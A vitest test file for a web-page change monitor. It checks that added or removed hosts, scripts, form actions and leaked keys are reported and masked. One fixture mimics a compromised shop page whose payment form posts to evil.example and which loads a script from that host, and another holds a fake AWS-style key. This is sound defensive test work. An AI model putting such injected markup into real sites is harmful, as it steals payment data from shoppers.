import { describe, expect, test } from 'vitest';
import { compareSignals } from '../../../src/monitor/compare/signals.ts';
import { LINEAR_MS, processorTime } from '../../processor-time.ts';

const source = (body: string, contentType = 'text/html') => ({
  body: Buffer.from(body),
  contentType,
  url: 'https://harbour.example/shop/',
});

describe('what came and went', () => {
  test('names hosts, scripts, inline scripts and form actions, the serious ones first', () => {
    const before = source('<form action="pay"><script>a()</script><a href="/b">b</a></form>');
    const after = source(
      '<form action="https://evil.example/pay"><script>b()</script><script src="//evil.example/x.js"></script></form>',
    );
    const changes = compareSignals(before, after);
    expect(changes.map(({ kind, value, came }) => `${came ? '+' : '-'} ${kind} ${value}`)).toEqual([
      '+ form action https://evil.example/pay',
      '- form action https://harbour.example/shop/pay',
      expect.stringMatching(/^\+ inline script sha256-[\w+/]{43}=$/),
      expect.stringMatching(/^- inline script sha256-[\w+/]{43}=$/),
      '+ script https://evil.example/x.js',
      '+ host evil.example',
      '- host harbour.example',
      '+ URL https://evil.example/pay',
      '+ URL https://evil.example/x.js',
      '- URL https://harbour.example/shop/pay',
      '- URL https://harbour.example/b',
    ]);
  });

  test('shows that a key came, without the key', () => {
    const key = `AKIA${'Q'.repeat(16)}`;
    const [change] = compareSignals(
      source('', 'text/javascript'),
      source(`var k="${key}"`, 'text/javascript'),
    );
    expect(change).toMatchObject({ kind: 'key', came: true });
    expect(change?.value).toMatch(/^AKIA\.\.\. \(20 characters, [0-9a-f]{8}\)$/);
    expect(JSON.stringify(change)).not.toContain(key);
    const inAddress = compareSignals(source(''), source(`<script src="/x.js?key=${key}"></script>`));
    expect(inAddress.map(({ kind }) => kind)).toContain('script');
    expect(JSON.stringify(inAddress)).not.toContain(key);
  });

  test('is nothing between equal contents, and all of it against none', () => {
    const one = source('<a href="https://a.example/">a</a>');
    expect(compareSignals(one, one)).toEqual([]);
    expect(compareSignals(null, one)).toHaveLength(2);
    expect(compareSignals(one, null).every(({ came }) => !came)).toBe(true);
  });

  test('is bounded and read in time', () => {
    const many = Array.from({ length: 100_000 }, (_, index) => `https://h${index}.example/`).join(' ');
    expect(compareSignals(null, source(many, 'text/plain'))).toHaveLength(200);
    for (const body of [
      many,
      'https://'.repeat(400_000),
      'eyJ'.repeat(1_000_000),
      '-----BEGIN '.repeat(300_000),
    ])
      expect(processorTime(() => compareSignals(null, source(body, 'text/plain')))).toBeLessThan(LINEAR_MS);
  });
});
